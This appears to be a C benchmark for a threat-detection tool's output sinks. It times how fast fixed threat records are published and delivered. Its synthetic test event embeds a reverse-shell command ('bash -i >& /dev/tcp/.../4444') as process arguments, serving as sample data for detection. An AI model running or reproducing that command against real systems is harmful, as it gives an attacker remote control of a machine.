/* bench_sink: what sinks cost the output stage and how fast they deliver. Publishes N
 * records of one threat (the first rule of RULES on a fixed exec event) to the sinks named
 * on the command line (--sink syntax), timing the publishing (the output thread's share),
 * then waits until every sink has accounted for all N (delivered, failed or dropped), or
 * for 2 s when one delivers nothing (a dead receiver).
 * Usage: bench_sink RULES.wtb N [SINK...]   (no SINK: the cost of building the records) */
#include "output.h"
#include "sink.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static double now_s(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static struct wt_event *make_event(void)
{
	struct wt_event_builder b;
	wt_event_builder_init(&b);
	struct wt_event *ev = &b.ev;
#define S(v) wt_event_builder_add(&b, v, strlen(v))
	ev->kind = WT_KIND_EXEC;
	ev->time = 1791975076530876629LL;
	ev->proc.present = true;
	ev->proc.pid = 65527;
	ev->proc.uid = 1000;
	ev->proc.binary = S("/bin/bash");
	ev->proc.args = S("-c \"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\"");
	ev->proc.cwd = S("/home/carol/project");
	ev->parent.present = true;
	ev->parent.binary = S("/tmp/.x.sh");
	ev->pod.present = true;
	ev->pod.ns = S("ws-carol");
	ev->pod.name = S("ws-carol-c41a9e-0");
	ev->pod.container_name = S("dev");
	ev->pod.image = S("registry.example.com/devenv/python-go:2026.10");
	ev->ws_id = S("carol-web");
	ev->ws_owner = S("carol@example.com");
	ev->node = S("gke-devpool-3b9e1c-node-7");
#undef S
	struct wt_event *e = wt_event_finish(&b, 1);
	wt_event_builder_free(&b);
	return e;
}

int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: bench_sink RULES.wtb N [SINK...]\n");
		return 64;
	}
	char err[1024];
	struct wt_ruleset *rs;
	if (wt_ruleset_load(argv[1], &rs, err, sizeof err) != WT_OK || !rs->bc.n_rules) {
		fprintf(stderr, "bench_sink: %s: %s\n", argv[1], err);
		return 2;
	}
	long n = atol(argv[2]);
	unsigned ns = (unsigned)(argc - 3);
	struct wt_sink_spec *specs = wt_xcalloc(ns + 1, sizeof *specs);
	char **storage = wt_xcalloc(ns + 1, sizeof *storage);
	for (unsigned i = 0; i < ns; i++)
		if (wt_sink_spec_parse(argv[3 + i], &specs[i], &storage[i], err, sizeof err) != WT_OK) {
			fprintf(stderr, "bench_sink: %s\n", err);
			return 64;
		}
	struct wt_sinks *sinks = NULL;
	if (ns && wt_sinks_new(specs, ns, &sinks, err, sizeof err) != WT_OK) {
		fprintf(stderr, "bench_sink: %s\n", err);
		return 64;
	}
	struct wt_event *ev = make_event();
	struct wt_threat t = {.rs = rs, .rule = &rs->rules[0], .pipeline = WT_PIPE_DIRECT, .ev = ev};
	struct wt_dedup_info d = {1, ev->time, ev->time, false, 0};
	struct wt_buf rec;
	wt_buf_init(&rec);
	wt_output_render(&rec, &t, &d, rs);

	double a = now_s();
	for (long i = 0; i < n; i++) {
		struct wt_sink_record *r = wt_sink_record_new(&t, &d, rec.p, rec.len);
		if (sinks)
			wt_sinks_publish(sinks, r);
		else
			wt_sink_record_release(r);
	}
	double published = now_s();
	printf("publish %ld records: %.0f records/s (%.2f us each)\n", n, n / (published - a),
	       1e6 * (published - a) / n);
	for (unsigned i = 0; sinks && i < ns; i++) {
		struct wt_sink *s = &sinks->s[i];
		struct wt_sink_stats st;
		double until = published + 120;
		do {
			wt_sink_stats_get(s, &st);
			if (st.delivered + st.failed + st.dropped >= (uint64_t)n)
				break;
			if (!st.delivered && now_s() > published + 2)
				break; /* a dead receiver: only the publishing cost matters */
			usleep(1000);
		} while (now_s() < until);
		double z = now_s();
		printf("  %s: delivered %llu in %.2f s = %.0f records/s; dropped %llu, retried %llu\n", s->name,
		       (unsigned long long)st.delivered, z - a, st.delivered / (z - a), (unsigned long long)st.dropped,
		       (unsigned long long)st.retried);
	}
	wt_sinks_stop(sinks, 1000);
	wt_sinks_free(sinks);
	for (unsigned i = 0; i < ns; i++)
		free(storage[i]);
	free(storage);
	free(specs);
	wt_buf_free(&rec);
	wt_event_release(ev);
	wt_ruleset_free(rs);
	wt_event_pool_drain();
	return 0;
}
